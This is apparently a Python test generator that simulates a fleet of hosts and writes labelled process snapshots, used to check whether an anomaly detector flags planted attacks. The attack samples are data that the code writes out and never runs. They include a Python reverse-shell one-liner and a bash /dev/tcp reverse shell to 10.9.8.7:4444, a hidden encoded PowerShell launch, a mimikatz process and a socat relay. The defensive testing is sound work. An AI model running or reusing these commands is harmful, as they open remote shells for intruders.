"""An adversarial fleet: ordinary hosts of several roles, and one story per blind spot of a detector.

    .venv/bin/python tests/adversarial.py --out /tmp/adv [--days 21] [--seed 11] [--stories a,b]
    DATABASE_URL=postgres://127.0.0.1:5432/voltaxe_adv .venv/bin/python benchmarks/scenario_replay.py /tmp/adv --fresh

It writes the fleetsim format of ../shared/scenarios (snapshots.jsonl.gz, labels.jsonl.gz,
manifest.json) with the same phases (baseline, steady, install, panic button, after), so
`benchmarks/scenario_replay.py` replays it through real ingestion and the real panic button and
prints flagged/all per label. Labels are `attack:<class>` (must be flagged), `benign:<class>`
(must not be), `new_software` (flagged before the press, not after) and ordinary (unmarked).

A story is a function registered with `@story("name")` that adds processes to hosts with `Fleet.add`
(a label, a time span, optionally fixed pids so that lineage across snapshots can be told) or changes
a host from some time on with `Fleet.on`. Everything comes from the seed: the same arguments write the
same bytes, whatever the clock says. Evaluation code: the product never sees these names.
"""
from __future__ import annotations

import argparse
import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

WIN = "C:\\Windows\\System32\\"
BUSINESS = frozenset(range(8, 19))  # UTC hours a workstation's user is at work


@dataclass(frozen=True)
class Proc:
    name: str
    exe: str = ""
    user: str = "root"
    parent: str = ""  # the parent's name, resolved to its pid in the same snapshot
    cmdline: str = ""
    cpu: float = 0.5  # mean percent
    cpu_sd: float = 0.3
    mem: float = 50.0  # MiB
    count: int = 1
    p: float = 1.0  # chance to run in a given snapshot (within `hours`)
    hours: frozenset[int] | None = None  # UTC hours it can run in; None: any
    p_off: float = 0.0  # chance outside `hours`
    weekdays: frozenset[int] | None = None  # 0 = Monday
    pid: int | None = None  # fixed pid (lineage stories); else stable per host for p == 1, fresh otherwise
    ppid: int | None = None  # fixed parent pid, e.g. of a process that has exited


@dataclass
class Host:
    name: str
    os: str
    role: str
    procs: list[Proc]
    names_only: bool = False  # reports as a Voltaxe Sentinel does: process names only, no OS


@dataclass
class Event:
    host: str
    proc: Proc
    label: str
    start: datetime
    stop: datetime


@dataclass
class Fleet:
    seed: int
    end: datetime
    days: int
    hosts: list[Host] = field(default_factory=list)
    events: list[Event] = field(default_factory=list)
    changes: list[tuple[str, datetime, Callable[[Host], Host]]] = field(default_factory=list)
    exclude_on_panic: list[str] = field(default_factory=list)
    stories: list[str] = field(default_factory=list)

    @property
    def steady_start(self) -> datetime:
        return self.end - timedelta(hours=8)

    @property
    def install_start(self) -> datetime:
        return self.end - timedelta(hours=6)

    @property
    def panic_at(self) -> datetime:
        return self.end - timedelta(hours=4)

    @property
    def start(self) -> datetime:
        return self.steady_start - timedelta(days=self.days)

    def host(self, name: str) -> Host:
        return next(h for h in self.hosts if h.name == name)

    def role(self, role: str) -> list[Host]:
        return [h for h in self.hosts if h.role == role]

    def add(self, host: str, proc: Proc, label: str, start: datetime, stop: datetime | None = None) -> None:
        """`proc` runs on `host` (with its own p/hours) from start until stop (default: the end), marked `label`."""
        self.events.append(Event(host, proc, label, start, stop or self.end))

    def on(self, host: str, at: datetime, change: Callable[[Host], Host]) -> None:
        """From `at` on, `host` is what `change` makes of it (a reinstall, a new role...)."""
        self.changes.append((host, at, change))

    def phase(self, t: datetime) -> str:
        if t < self.steady_start:
            return "baseline"
        if t < self.install_start:
            return "steady"
        return "install" if t < self.panic_at else "after"

    # -- output -------------------------------------------------------------------------------
    def snapshots(self) -> Iterator[tuple[dict, dict]]:
        """(payload, label line) in time order, one snapshot per host per hour."""
        t, line = self.start, 0
        while t < self.end:
            for i, base in enumerate(self.hosts):
                host = base
                for name, at, change in self.changes:
                    if name == host.name and t >= at:
                        host = change(host)
                if host.os == "":  # a host switched off
                    continue
                payload, marks = self._snapshot(host, t + timedelta(seconds=13 * i))
                yield payload, {"line": line, "phase": self.phase(t), "hostname": host.name, "marks": marks}
                line += 1
            t += timedelta(hours=1)

    def _snapshot(self, host: Host, t: datetime) -> tuple[dict, list]:
        rng = random.Random(zlib.crc32(f"{self.seed}:{host.name}:{t.isoformat()}".encode()))
        chosen = [(p, "") for p in host.procs if _runs(p, t, rng)]
        chosen += [(e.proc, e.label) for e in self.events
                   if e.host == host.name and e.start <= t < e.stop and _runs(e.proc, t, rng)]
        rows, marks, pids, used = [], [], {}, set()
        for proc, label in chosen:
            for k in range(proc.count):
                if proc.pid is not None:
                    pid = proc.pid + k
                elif proc.p >= 1.0 and proc.hours is None:  # long-running: the same pid all along
                    pid = 300 + zlib.crc32(f"{host.name}:{proc.name}:{proc.exe}:{k}".encode()) % 60000
                else:
                    pid = rng.randrange(70000, 4_000_000)
                    while pid in used:
                        pid = rng.randrange(70000, 4_000_000)
                used.add(pid)
                pids.setdefault(proc.name, pid)
                if label:
                    marks.append([len(rows), label])
                rows.append({"name": proc.name, "pid": pid, "ppid": proc.ppid, "parent": proc.parent,
                             "exe": proc.exe or None, "username": proc.user, "cmdline": proc.cmdline or proc.exe,
                             "cpu_percent": round(max(0.0, rng.gauss(proc.cpu, proc.cpu_sd)), 1),
                             "memory_rss": int(max(1.0, rng.gauss(proc.mem, proc.mem * 0.1)) * 1024 * 1024)})
        for row in rows:
            parent = row.pop("parent")
            if row["ppid"] is None:
                row["ppid"] = pids.get(parent, 1) if parent else 1
        if host.names_only:
            return {"hostname": host.name, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
                    "processes": [r["name"] for r in rows]}, marks
        return {"hostname": host.name, "os": host.os, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
                "processes": rows}, marks

    def write(self, out: Path) -> dict:
        out.mkdir(parents=True, exist_ok=True)
        snapshots = records = 0
        with gzip.open(out / "snapshots.jsonl.gz", "wt", encoding="utf-8") as snaps, \
                gzip.open(out / "labels.jsonl.gz", "wt", encoding="utf-8") as labels:
            for payload, label in self.snapshots():
                snaps.write(json.dumps(payload, separators=(",", ":")) + "\n")
                labels.write(json.dumps(label, separators=(",", ":")) + "\n")
                snapshots += 1
                records += len(payload["processes"])
        manifest = {
            "generator": "tests/adversarial.py", "seed": self.seed, "hosts": len(self.hosts), "every_minutes": 60,
            "baseline_start": self.start.isoformat(), "steady_start": self.steady_start.isoformat(),
            "install_start": self.install_start.isoformat(), "panic_at": self.panic_at.isoformat(),
            "end": self.end.isoformat(), "exclude_on_panic": self.exclude_on_panic, "stories": self.stories,
            "snapshots": snapshots, "process_records": records,
        }
        (out / "manifest.json").write_text(json.dumps(manifest, indent=1))
        return manifest


def _runs(p: Proc, t: datetime, rng: random.Random) -> bool:
    if p.weekdays is not None and t.weekday() not in p.weekdays:
        return False
    if p.hours is not None and t.hour not in p.hours:
        return rng.random() < p.p_off
    return p.p >= 1.0 or rng.random() < p.p


# -- the ordinary fleet ---------------------------------------------------------------------------
def _windows(user: str) -> list[Proc]:
    home = f"C:\\Users\\{user}\\AppData\\Local\\"
    work = dict(user=user, hours=BUSINESS, p_off=0.03)
    return [
        Proc("System", user="SYSTEM"), Proc("smss.exe", WIN + "smss.exe", "SYSTEM", "System"),
        Proc("csrss.exe", WIN + "csrss.exe", "SYSTEM", count=2), Proc("wininit.exe", WIN + "wininit.exe", "SYSTEM"),
        Proc("services.exe", WIN + "services.exe", "SYSTEM", "wininit.exe"),
        Proc("lsass.exe", WIN + "lsass.exe", "SYSTEM", "wininit.exe", mem=20),
        Proc("svchost.exe", WIN + "svchost.exe", "SYSTEM", "services.exe", WIN + "svchost.exe -k netsvcs", count=25),
        Proc("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090-0\\MsMpEng.exe",
             "SYSTEM", "services.exe", cpu=3, cpu_sd=2, mem=250),
        Proc("explorer.exe", "C:\\Windows\\explorer.exe", user, mem=120),
        Proc("OneDrive.exe", home + "Microsoft\\OneDrive\\OneDrive.exe", user, "explorer.exe", "/background"),
        Proc("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", parent="explorer.exe",
             cpu=4, cpu_sd=3, mem=180, count=8, p=0.9, **work),
        Proc("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
             parent="explorer.exe", mem=200, p=0.9, **work),
        Proc("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
             parent="explorer.exe", mem=150, p=0.4, **work),
        Proc("powershell.exe", WIN + "WindowsPowerShell\\v1.0\\powershell.exe", parent="explorer.exe",
             cmdline="powershell.exe -NoLogo", p=0.1, **work),
    ]


def _mac(user: str) -> list[Proc]:
    work = dict(user=user, hours=BUSINESS, p_off=0.05)
    return [
        Proc("launchd", "/sbin/launchd"), Proc("kernel_task", mem=500),
        Proc("WindowServer", "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer",
             "_windowserver", "launchd", cpu=5, cpu_sd=3, mem=300),
        Proc("Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", user, "launchd"),
        Proc("Safari", "/Applications/Safari.app/Contents/MacOS/Safari", parent="launchd", cpu=3, cpu_sd=2,
             mem=400, p=0.8, **work),
        Proc("Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", parent="launchd",
             p=0.4, **work),
        Proc("zsh", "/bin/zsh", parent="Terminal", cmdline="-zsh", p=0.4, **work),
    ]


def _linux(role: str) -> list[Proc]:
    base = [
        Proc("systemd", "/usr/lib/systemd/systemd", cmdline="/sbin/init"),
        Proc("kworker/0:1-events", count=4), Proc("ksoftirqd/0", count=2),
        Proc("systemd-journald", "/usr/lib/systemd/systemd-journald", parent="systemd"),
        Proc("sshd", "/usr/sbin/sshd", parent="systemd", cmdline="sshd: /usr/sbin/sshd -D [listener]"),
        Proc("cron", "/usr/sbin/cron", parent="systemd", cmdline="/usr/sbin/cron -f"),
        Proc("rsyslogd", "/usr/sbin/rsyslogd", "syslog", "systemd", "/usr/sbin/rsyslogd -n"),
        Proc("logrotate", "/usr/sbin/logrotate", parent="cron", cmdline="/usr/sbin/logrotate /etc/logrotate.conf",
             hours=frozenset({0})),
    ]
    if role == "web":
        return base + [
            Proc("nginx", "/usr/sbin/nginx", "www-data", "systemd", "nginx: worker process", cpu=2, cpu_sd=1, count=4),
            Proc("gunicorn", "/opt/app/venv/bin/python3", "app", "systemd",
                 "/opt/app/venv/bin/python3 /opt/app/venv/bin/gunicorn app.wsgi -w 4", cpu=6, cpu_sd=4, mem=120,
                 count=5),
        ]
    if role == "db":
        return base + [
            Proc("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", "systemd",
                 "postgres: checkpointer", cpu=3, cpu_sd=2, mem=300, count=10),
            Proc("pg_dump", "/usr/lib/postgresql/15/bin/pg_dump", "postgres", "cron", "pg_dump -Fc appdb",
                 cpu=40, cpu_sd=10, hours=frozenset({2})),
        ]
    # build: busy all day, compilers spike
    return base + [
        Proc("dockerd", "/usr/bin/dockerd", parent="systemd", cmdline="/usr/bin/dockerd -H fd://", cpu=4, cpu_sd=2),
        Proc("java", "/usr/lib/jvm/java-17/bin/java", "builder", "systemd",
             "/usr/lib/jvm/java-17/bin/java -jar /opt/jenkins/agent.jar", cpu=60, cpu_sd=30, mem=2000),
        Proc("cc1plus", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "builder", "make", cpu=95, cpu_sd=10,
             mem=400, count=2, p=0.6, hours=BUSINESS, p_off=0.2),
        Proc("make", "/usr/bin/make", "builder", "java", "make -j4", p=0.6, hours=BUSINESS, p_off=0.2),
    ]


PEOPLE = ("amira", "bruno", "chen", "dana", "emeka", "fatima", "goran", "hana")


def ordinary_fleet(*, seed: int = 11, end: datetime | None = None, days: int = 21) -> Fleet:
    end = end or datetime(2026, 11, 11, 14, tzinfo=UTC)
    fleet = Fleet(seed=seed, end=end.replace(minute=0, second=0, microsecond=0), days=days)
    fleet.hosts += [Host(f"wks-{i:02d}", "windows", "workstation", _windows(PEOPLE[i])) for i in range(6)]
    fleet.hosts += [Host(f"mac-{i:02d}", "darwin", "workstation", _mac(PEOPLE[6 + i])) for i in range(2)]
    fleet.hosts += [Host(f"{role}-{i:02d}", "linux", role, _linux(role))
                    for role, n in (("web", 3), ("db", 2), ("build", 3)) for i in range(n)]
    return fleet


# -- stories ------------------------------------------------------------------------------------
STORIES: dict[str, Callable[[Fleet], None]] = {}


def story(name: str):
    def register(fn: Callable[[Fleet], None]) -> Callable[[Fleet], None]:
        STORIES[name] = fn
        return fn
    return register


@story("new-software")
def new_software(fleet: Fleet) -> None:
    """The panic button's own case: an installed app is flagged, approved by the press, then quiet."""
    user = fleet.host("wks-02").procs[-1].user
    fleet.add("wks-02", Proc("Notion.exe", f"C:\\Users\\{user}\\AppData\\Local\\Programs\\Notion\\Notion.exe", user,
                             "explorer.exe", cpu=2, mem=200), "new_software", fleet.install_start)


SOCKET_ONE_LINER = ("python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.9.8.7',4444));"
                    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\"")


def _guid(rng: random.Random) -> str:
    return "{" + "-".join("".join(rng.choice("0123456789ABCDEF") for _ in range(n)) for n in (8, 4, 4, 4, 12)) + "}"


def _daily(fleet: Fleet, host: str, hour: int, make: Callable[[random.Random], Proc], label: str) -> None:
    """A run a day at `hour`, each with its own per-run details (`make` draws them)."""
    rng = random.Random(zlib.crc32(f"{fleet.seed}:{host}:{hour}".encode()))
    day = fleet.start.replace(hour=hour)
    while day < fleet.end:
        fleet.add(host, make(rng), label if day >= fleet.steady_start else "", day, day + timedelta(hours=1))
        day += timedelta(days=1)


@story("lineage")
def lineage(fleet: Fleet) -> None:
    """Class 1. A shell whose office parent has exited; an orphaned login shell; one-liners that open sockets.
    Look-alikes: a shell whose usual parent restarted (another pid), the usual shells and scripts."""
    user = fleet.host("wks-01").procs[-1].user
    ps = WIN + "WindowsPowerShell\\v1.0\\powershell.exe"
    word = Proc("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", user,
                "explorer.exe", pid=4_100_001)
    after = fleet.panic_at + timedelta(minutes=30)
    fleet.add("wks-01", word, "", after - timedelta(hours=1), after)
    fleet.add("wks-01", Proc("powershell.exe", ps, user, cmdline="powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                             ppid=4_100_001), "attack:lineage", after)
    # A login shell on the build hosts, as people use them; then an orphan, and a reverse shell from cron.
    for host in ("build-00", "build-01"):
        fleet.add(host, Proc("bash", "/usr/bin/bash", "builder", "sshd", "-bash", p=0.5), "", fleet.start)
        fleet.add(host, Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/ci/report.py --daily",
                             p=0.3), "", fleet.start)
    # An orphaned interpreter: the reporting script, but under a parent nobody saw (the accounts story's
    # login shells are often orphans in this generator, so a shell would be no news on these hosts).
    fleet.add("build-00", Proc("python3", "/usr/bin/python3", "builder", cmdline="python3 /opt/ci/report.py --daily",
                               pid=4_100_101, ppid=3_999_999),
              "attack:lineage",
              fleet.panic_at)
    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER, pid=4_100_201),
              "attack:lineage",
              fleet.panic_at)
    fleet.add("build-01", Proc("bash", "/usr/bin/bash", "builder", "sshd", "bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'",
                               pid=4_100_202),
              "attack:lineage", fleet.panic_at)
    fleet.add("build-00", Proc("bash", "/usr/bin/bash", "builder", "sshd", "-bash"), "benign:lineage", fleet.steady_start)
    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/ci/report.py --daily"),
              "benign:lineage", fleet.steady_start)
    # wks-03's explorer restarts (a new pid); a PowerShell window its old instance opened stays.
    explorer = next(p for p in fleet.host("wks-03").procs if p.name == "explorer.exe")
    old_pid = 300 + zlib.crc32(f"wks-03:{explorer.name}:{explorer.exe}:0".encode()) % 60000
    fleet.on("wks-03", fleet.panic_at, lambda h: replace(h, procs=[
        replace(p, pid=4_200_000) if p.name == "explorer.exe" else p for p in h.procs]))
    fleet.add("wks-03", Proc("powershell.exe", ps, fleet.host("wks-03").procs[-1].user, cmdline="powershell.exe -NoLogo",
                             ppid=old_pid), "benign:lineage", fleet.panic_at + timedelta(hours=1))


@story("random-paths")
def random_paths(fleet: Fleet) -> None:
    """Class 5. An updater unpacked in a new GUID folder every day, a Store app whose package version moves,
    a build tool in a fresh build folder, a portable app mounted at a random point: not news. A disguise in
    such a folder is."""
    user = fleet.host("wks-04").procs[-1].user
    temp = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\"
    _daily(fleet, "wks-04", 10, lambda rng: Proc("GoogleUpdateSetup.exe", temp + _guid(rng) + "\\GoogleUpdateSetup.exe",
                                                  "SYSTEM", "svchost.exe", p=1.0), "benign:random-paths")
    terminal = "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_{}_x64__8wekyb3d8bbwe\\WindowsTerminal.exe"
    fleet.add("wks-04", Proc("WindowsTerminal.exe", terminal.format("1.18.3181.0"), user, "explorer.exe"), "",
              fleet.start, fleet.panic_at)
    fleet.add("wks-04", Proc("WindowsTerminal.exe", terminal.format("1.19.10302.0"), user, "explorer.exe"),
              "benign:random-paths", fleet.panic_at)
    for hour in range(24):
        _daily(fleet, "build-02", hour, lambda rng: Proc(
            "main", f"/tmp/go-build{rng.randrange(10**8, 10**9)}/b001/exe/main", "builder", "make", p=0.5),
            "benign:random-paths")
    _daily(fleet, "build-02", 9, lambda rng: Proc(
        "obsidian", f"/tmp/.mount_Obsid{''.join(rng.choice('ABCDEFGHabcdefgh0123') for _ in range(6))}/obsidian",
        "builder", "systemd", p=1.0), "benign:random-paths")
    fleet.add("wks-05", Proc("svchost.exe", f"C:\\Users\\{fleet.host('wks-05').procs[-1].user}\\AppData\\Local\\Temp\\"
                             "{8C1E0A52-77D1-4B0E-9F3A-2C6D11E0B7A4}\\svchost.exe", "SYSTEM", "explorer.exe"),
              "attack:random-paths", fleet.panic_at)
    fleet.add("build-02", Proc("cc1plus", "/tmp/go-build424242424/b001/cc1plus", "builder", "make", cpu=5),
              "attack:random-paths", fleet.panic_at)


@story("approval-granularity")
def approval_granularity(fleet: Fleet) -> None:
    """Class 7. An approved app under a new parent and its own updater are not news; an approved interpreter
    running another script is."""
    user = fleet.host("wks-05").procs[-1].user
    app = f"C:\\Users\\{user}\\AppData\\Local\\Figma\\"
    fleet.add("wks-05", Proc("Figma.exe", app + "Figma.exe", user, "explorer.exe"), "new_software",
              fleet.install_start, fleet.panic_at)
    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/tools/deploy.py --env prod"),
              "new_software", fleet.install_start, fleet.panic_at)
    fleet.add("wks-05", Proc("Figma.exe", app + "Figma.exe", user, "OneDrive.exe"), "benign:approval-granularity",
              fleet.panic_at)
    fleet.add("wks-05", Proc("Update.exe", app + "Update.exe", user, "Figma.exe"), "benign:approval-granularity",
              fleet.panic_at)
    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "sshd", "python3 /opt/tools/deploy.py --env prod"),
              "benign:approval-granularity", fleet.panic_at)
    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER, pid=4_100_301),
              "attack:approval-granularity", fleet.panic_at)


@story("names-only")
def names_only(fleet: Fleet) -> None:
    """Class 8. A kiosk whose agent sends names only: its usual programs are not news, a new one is."""
    user = PEOPLE[0]
    fleet.hosts.append(Host("kiosk-00", "windows", "workstation", _windows(user), names_only=True))
    fleet.add("kiosk-00", Proc("OneDrive.exe", "", user), "benign:names-only", fleet.steady_start)
    fleet.add("kiosk-00", Proc("mimikatz.exe", "", user), "attack:names-only", fleet.panic_at)

@story("resources")
def resources(fleet: Fleet) -> None:
    """A throttled miner under the build host's busy name; an approved tool that starts burning cores.
    Look-alikes: a one-snapshot build spike, a job busy for three hours at its usual hours."""
    jvm = next(p for p in fleet.host("build-00").procs if p.name == "java")
    # A second JVM: pids between the stable ones and the fresh ones, so none is taken twice.
    fleet.add("build-00", replace(jvm, cpu=150, cpu_sd=5, pid=65001), "attack:resources", fleet.steady_start)
    sync = Proc("acme-sync", "/opt/acme/bin/acme-sync", "app", "systemd", "/opt/acme/bin/acme-sync --watch", cpu=1)
    fleet.add("web-01", sync, "new_software", fleet.install_start, fleet.panic_at + timedelta(hours=1))
    fleet.add("web-01", replace(sync, cpu=400, cpu_sd=10), "attack:resources", fleet.panic_at + timedelta(hours=1))
    spike = next(p for p in fleet.host("build-01").procs if p.name == "java")
    fleet.add("build-01", replace(spike, cpu=350, cpu_sd=10, pid=65002), "benign:resources",
              fleet.install_start + timedelta(hours=1), fleet.install_start + timedelta(hours=2))
    busy = frozenset({7, 8, 9})
    reports = Proc("report-runner", "/opt/reports/bin/report-runner", "reports", "systemd", cpu=1,
                   hours=frozenset(range(24)) - busy)
    fleet.add("db-00", reports, "benign:resources", fleet.start)
    fleet.add("db-00", replace(reports, cpu=85, cpu_sd=5, hours=busy), "benign:resources", fleet.start)


@story("accounts")
def accounts(fleet: Fleet) -> None:
    """A workstation user's credentials used on a database server. Look-alike: the admin on one more server."""
    def session(user: str, p: float = 1.0) -> list[Proc]:
        return [Proc("sshd-session", "/usr/sbin/sshd", user, "sshd", f"sshd-session: {user}@pts/0", p=p),
                Proc("bash", "/usr/bin/bash", user, "sshd-session", "-bash", p=p)]

    for host in fleet.role("web") + fleet.role("db") + fleet.role("build"):
        if host.name not in ("db-01", "build-02"):
            host.procs += session("ops", p=0.15)
    for host in fleet.role("web") + fleet.role("build"):  # deployments log in too
        host.procs += session("deploy", p=0.3)
    victim = fleet.host("wks-02").procs[-1].user
    for proc in session(victim):
        fleet.add("db-01", proc, "attack:accounts", fleet.steady_start)
    fleet.exclude_on_panic += ["sshd-session", "bash"]  # the operator does not approve the intruder's session
    for proc in session("ops"):
        fleet.add("build-02", proc, "benign:accounts", fleet.steady_start)


@story("schedules")
def schedules(fleet: Fleet) -> None:
    """The nightly dump run in the middle of the day. Look-alikes: a weekly job seen three times and a
    fortnightly one seen once, each at its usual hour."""
    dump = next(p for p in fleet.host("db-01").procs if p.name == "pg_dump")
    fleet.add("db-01", replace(dump, hours=frozenset({10, 11})), "attack:schedules", fleet.panic_at)
    day = fleet.end.weekday()
    weekly = Proc("report-weekly", "/opt/reports/bin/report-weekly", "reports", "cron", cpu=20, cpu_sd=5,
                  hours=frozenset({9}), weekdays=frozenset({day}))
    fleet.add("web-00", weekly, "benign:schedules", fleet.start)
    fortnightly = Proc("audit-export", "/opt/audit/bin/audit-export", "root", "cron", cpu=10, cpu_sd=2,
                       hours=frozenset({10}))
    today = fleet.end.replace(hour=0)
    fleet.add("web-01", fortnightly, "", today - timedelta(days=14), today - timedelta(days=13))
    fleet.add("web-01", fortnightly, "benign:schedules", today, fleet.end)


@story("reborn")
def reborn(fleet: Fleet) -> None:
    """Two hosts go quiet for two days and come back as other machines: a web server reinstalled as a build
    host, whose old relay then runs again (attack: its old life must not vouch for it), and a Mac back as
    a Windows workstation. Look-alike: the programs of their new lives, judged with their new peers."""
    off, back = fleet.steady_start - timedelta(days=2), fleet.steady_start
    relay = Proc("socat", "/usr/bin/socat", "ops", "systemd", "socat TCP-LISTEN:9000,fork TCP:10.0.0.5:5432")
    fleet.add("web-02", relay, "", fleet.start, off)
    for name, os_name, role, procs in (("web-02", "linux", "build", _linux("build")),
                                       ("mac-01", "windows", "workstation", _windows("ivan"))):
        fleet.on(name, off, lambda h: Host(h.name, "", h.role, []))
        fleet.on(name, back, lambda h, os_name=os_name, role=role: Host(h.name, os_name, role, []))
        for proc in procs:
            fleet.add(name, proc, "benign:reborn", back)
    fleet.add("web-02", relay, "attack:reborn", fleet.install_start)
    fleet.exclude_on_panic.append("socat")  # the operator does not approve the relay


def build(*, seed: int = 11, end: datetime | None = None, days: int = 21, stories: list[str] | None = None) -> Fleet:
    fleet = ordinary_fleet(seed=seed, end=end, days=days)
    for name in stories or list(STORIES):
        STORIES[name](fleet)
        fleet.stories.append(name)
    return fleet


def replay(fleet: Fleet, *, user=None) -> dict[str, list[int]]:
    """Tell the story through ingestion in this process: history, first model, the press, the rest.

    Returns {label: [flagged, all]} over the scored phases (steady, install, after), "" for ordinary
    rows. The press excludes `fleet.exclude_on_panic` and approves what the preview offers by default.
    Needs the database (a django_db test); build the fleet with `end=timezone.now()` so that its
    history is inside the training window.
    """
    from tests import fleet as stories

    tally: dict[str, list[int]] = {}
    pending: list[tuple[dict, dict]] = []
    trained = pressed = False

    def flush() -> None:
        results = stories.ingest([payload for payload, _ in pending])
        for (payload, label), result in zip(pending, results):
            if label["phase"] == "baseline":
                continue
            hits = {a["index"] for a in result.get("anomalies", [])}
            marks = dict(label["marks"])
            for i in range(len(payload["processes"])):
                entry = tally.setdefault(marks.get(i, ""), [0, 0])
                entry[0] += i in hits
                entry[1] += 1
        pending.clear()

    for payload, label in fleet.snapshots():
        phase = label["phase"]
        if phase != "baseline" and not trained:
            flush()
            run = stories.train(user=user)
            assert run.status == "succeeded", run.message
            trained = True
        if phase == "after" and not pressed:
            flush()
            run = stories.train(user=user, exclude=fleet.exclude_on_panic, reason="story")
            assert run.status == "succeeded", run.message
            pressed = True
        pending.append((payload, label))
        if len(pending) >= 100:
            flush()
    flush()
    return tally


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument("--days", type=int, default=21)
    parser.add_argument("--end", help="ISO time the story ends (default 2026-11-11T14:00Z; keep it before now)")
    parser.add_argument("--stories", help=f"comma-separated, of: {', '.join(STORIES)} (default all)")
    args = parser.parse_args()
    end = datetime.fromisoformat(args.end.replace("Z", "+00:00")) if args.end else None
    fleet = build(seed=args.seed, end=end, days=args.days, stories=args.stories.split(",") if args.stories else None)
    manifest = fleet.write(args.out)
    print(f"{manifest['snapshots']:,} snapshots, {manifest['process_records']:,} process records, "
          f"stories: {', '.join(manifest['stories'])} -> {args.out}")


if __name__ == "__main__":
    main()
